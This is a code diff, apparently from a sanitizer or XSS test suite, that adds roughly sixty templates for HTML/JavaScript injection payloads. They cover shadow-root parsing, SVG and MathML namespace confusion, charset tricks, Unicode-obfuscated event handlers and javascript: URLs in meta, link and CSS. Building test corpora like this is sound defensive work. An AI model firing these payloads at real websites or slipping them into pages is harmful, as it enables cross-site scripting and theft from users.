@@ -67,6 +67,105 @@ const asEntities = (text: string) => text.replace(/[a-z]/g, (letter) => `&#${let
 const asHexEntities = (text: string) =>
   text.replace(/[a-z]/g, (letter) => `&#X${letter.charCodeAt(0).toString(16)}`)
 
+/** Of parsers that read the same text in two ways, shadow roots in the markup, encodings, and elements that hardly exist. */
+const ODD_FORMS: Form[] = [
+  (js) => `<script id="a type=text/plain ">${js}</script>`,
+  (js) => `<script id='a" type=text/plain '>${js}</script>`,
+  (js) => `<script id="a' type=application/json ">${js}</script>`,
+  (js) => `<script id='a type="text/template" b'>${js}</script>`,
+  (js) =>
+    `<div><template shadowrootmode=open><img src=x onerror=${js}><slot onslotchange=${js}></slot></template>x</div>`,
+  (js) =>
+    `<div><template shadowrootmode=closed><div><template shadowrootmode=open><svg><script>${js}</script></svg></template></div></template></div>`,
+  (js) =>
+    `<p><template shadowrootmode=open shadowrootclonable shadowrootserializable><style>@import "javascript:${js}"</style></template>`,
+  (js) => `<template><div><template shadowrootmode=open><script>${js}</script></template></div></template>`,
+  (js) =>
+    `<template shadowrootmode=open for=x><script type="text/plain"></template><script>${js}</script></script>`,
+  (js) =>
+    `<svg><a><set attributeName=href to="${asEntities('javascript:')}${js}" begin="0s;x.begin" /><text>x</text></a><discard begin=0s /></svg>`,
+  (js) =>
+    `<svg><animate id=x attributeName=href dur=1ms values="a;${asEntities('javascript:')}${js}" end=x.begin /></svg>`,
+  (js) =>
+    `<svg><use href="#x"/><symbol id=x><foreignObject><iframe srcdoc="<script>${js}</script>"></foreignObject></symbol></svg>`,
+  (js) => `<svg><style><![CDATA[</style><img src=x onerror=${js}>]]></style></svg>`,
+  (js) => `<svg><title><![CDATA[</title><script>${js}</script>]]></title></svg>`,
+  (js) => `<svg><desc><![CDATA[>]]><script>${js}</script></desc></svg>`,
+  (js) =>
+    `<svg><feImage href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>" /></svg>`,
+  (js) =>
+    `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${js}">x</maction><mi href="${asEntities('javascript:')}${js}">x</mi></math>`,
+  (js) =>
+    `<math><annotation-xml encoding="application/xhtml+xml"><script>${js}</script></annotation-xml></math>`,
+  (js) => `<math><mi><svg><mi><style></mi><img src=x onerror=${js}></style></svg></mi></math>`,
+  (js) =>
+    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src=x>">`,
+  (js) =>
+    `<svg><font color=x><style><img src=x onerror=${js}></style></font><font face=x><img src=x onerror=${js}></svg>`,
+  (js) => `<table><caption><svg><title><table><style></table><img src=x onerror=${js}></style>`,
+  (js) => `<select><template><script>${js}</script></template><svg><script>${js}</script></svg></select>`,
+  (js) =>
+    `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=${js}></select>`,
+  (js) =>
+    `<?xml-stylesheet type="text/xsl" href="data:text/xml,<xsl:stylesheet/>"?><?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${js}</x:script>`,
+  (js) =>
+    `<html xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${js}</h:script><h:img src=x h:onerror="${js}" />`,
+  (js) => `<meta charset="utf-7">+ADw-script+AD4-${js}+ADw-/script+AD4-`,
+  (js) => `<meta charset="iso-2022-jp"><img title="\u001b$B" src="x\u001b(B" alt="\u001b(J onerror=${js} ">`,
+  (js) => `<meta charset="hz-gb-2312">~{<script>~}${js}</script><meta charset="x-user-defined">`,
+  (js) => `<meta charset="utf-16le">${[...`<script>${js}</script>`].join('\0')}`,
+  (js) => `\ufeff<scr\ufeffipt>${js}</scr\ufeffipt><ſcript>${js}</ſcript><ımg src=x onerror=${js}>`,
+  (js) => `<img src=x oneırror=${js} onerror\u0085=${js} \u3000onerror=${js} onload\u2003=${js}>`,
+  (js) => `<img src=x \u0000onerror=${js}><img src=x onerror\u0000=${js}><img\u000bsrc=x\u000bonerror=${js}>`,
+  (js) => `<img src=x a="\r\n"\ronerror\r=\r${js}><img src=x/\n/onerror\n/=${js}>`,
+  (js) => `<img src=x title='"'onerror=${js}><img src=x title=a"onerror=${js}><img src=x '"onerror=${js}>`,
+  (js) => `<img src=x ONERROR=${js}><IMG SRC=x on-error=${js} on:error=${js} on_error=${js} on1=${js}>`,
+  (js) =>
+    `<base href="${asEntities('javascript:')}/x"><base target="${asEntities('javascript:')}${js}"><a href="${js}" autofocus>x</a>`,
+  (js) =>
+    `<a ping="javascript:${js}" href="vbscript:${js}">x</a><a href="JaVa\nScRiPt:${js}">x</a><a href="\u0001javascript:${js}">x</a>`,
+  (js) => `<link rel="prefetch prerender preconnect manifest" href="data:text/html,<script>${js}</script>">`,
+  (js) =>
+    `<link rel="stylesheet" href="data:text/css,*{background:url(javascript:${js});behavior:url(x);-moz-binding:url(x)}">`,
+  (js) =>
+    `<style>@import url("data:text/css,@import 'javascript:${js}'");*{width:expression(${js});content:url(data:text/html,<script>${js}</script>)}</style>`,
+  (js) =>
+    `<style>p{background:image-set("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>" 1x);mask:url("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>#x")}</style><p>x`,
+  (js) =>
+    `<meta http-equiv="re&#102;resh" content="0;url=${asEntities('javascript:')}${js}"><meta http-equiv="refresh\u00a0" content="0">`,
+  (js) => `<meta http-equiv='refresh' content='0; URL="data:text/html,<script>${js}</script>"'>`,
+  (js) =>
+    `<meta http-equiv="Set-Cookie" content="a=${js}"><meta http-equiv="Content-Type" content="text/xml"><meta http-equiv="origin-trial" content="x">`,
+  (js) => `<noscript><template shadowrootmode=open></noscript><script>${js}</script></template></noscript>`,
+  (js) =>
+    `<noscript><style></noscript><img src=x onerror=${js}></style><noembed><!--</noembed><script>${js}</script>-->`,
+  (js) => `<plaintext><script>${js}</script></plaintext><script>${js}</script>`,
+  (js) =>
+    `<frameset><noframes><script>${js}</script></noframes><frame src="data:text/html,<script>${js}</script>"></frameset>`,
+  (js) =>
+    `<isindex type=image src=x onerror=${js}><keygen autofocus onfocus=${js}><bgsound src=x onerror=${js}><layer src="javascript:${js}">`,
+  (js) => `<image src=x onerror=${js}><listing><img src=x onerror=${js}></listing><nextid onload=${js}>`,
+  (js) =>
+    `<fencedframe src="data:text/html,<script>${js}</script>"></fencedframe><controlledframe src="javascript:${js}"></controlledframe>`,
+  (js) => `<script type="text/plain"><!--<script ></script >${js}//--></script><img src=x onerror=${js}>`,
+  (js) =>
+    `<script id=a type=text/plain type=module>${js}</script><script type="text/plain\u0000">${js}</script>`,
+  (js) =>
+    `<script type="application/json"onload="${js}">1</script><script type=text/plain\u000b>${js}</script>`,
+  (js) =>
+    `<script type="text/plain" type="" language=javascript>${js}</script ><script\u0000type=text/plain>${js}</script>`,
+  (js) =>
+    `<script type="text/x-template" src="data:,${js}"></script></script/><svg><script type=text/plain>${js}</script></svg>`,
+  (js) =>
+    `<svg><script type="text/plain" type="module">${js}</script><script type="text/plain"/><script>${js}</script></svg>`,
+  (js) =>
+    `<xss style="animation:k 1ms" onanimationstart=${js}>x</xss><style>@keyframes k{}</style><x contenteditable onfocus=${js} autofocus>`,
+  (js) =>
+    `<button commandfor=d command=show-modal autofocus>x</button><dialog id=d oncommand=${js}>x</dialog>`,
+  (js) =>
+    `<div id=x style="scroll-snap-type:y" onscrollsnapchange=${js} onscrollsnapchanging=${js}>x</div><a interestfor=x oninterest=${js}>x</a>`,
+]
+
 const FORMS: Form[] = [
   (js) => `<script>${js}</script>`,
   (js) => `<script type="module">${js}</script>`,
@@ -183,6 +282,7 @@ const FORMS: Form[] = [
   (js) => `<object onerror=${js} data=x></object><embed onload=${js} src=x>`,
   (js) => `<p contenteditable autofocus onbeforeinput=${js} onfocus=${js}>x`,
   (js) => `<input type=image src=x onerror=${js}><input pattern=a value=b oninvalid=${js}>`,
+  ...ODD_FORMS,
 ]
 
 /** Where content of a document may stand: what is a script in one place is text in another. */
